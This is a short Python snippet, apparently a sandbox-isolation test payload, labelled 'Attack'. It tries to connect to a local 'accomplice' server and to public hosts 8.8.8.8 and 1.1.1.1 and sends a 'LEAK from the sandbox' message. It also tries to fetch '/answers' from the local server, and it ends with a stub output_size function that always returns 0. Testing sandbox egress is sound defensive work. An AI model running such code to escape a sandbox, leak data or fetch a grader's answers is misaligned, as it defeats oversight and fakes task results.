# Attack: reach the outside world (a server of an accomplice on this machine, and the internet).
import socket
import urllib.request

_results = []
for _host, _port in [("127.0.0.1", {PORT}), ("localhost", {PORT}), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
    try:
        _sock = socket.create_connection((_host, _port), timeout=3)
        _sock.sendall(b"LEAK from the sandbox\n")
        _sock.close()
        _results.append(f"{_host}: connected")
    except OSError as err:
        _results.append(f"{_host}: {type(err).__name__}")
try:
    urllib.request.urlopen("http://127.0.0.1:{PORT}/answers", timeout=3).read()
    _results.append("http: fetched")
except Exception as err:
    _results.append(f"http: {type(err).__name__}")
print(_results)


def output_size(n, k, p=0, s=1):
    return 0
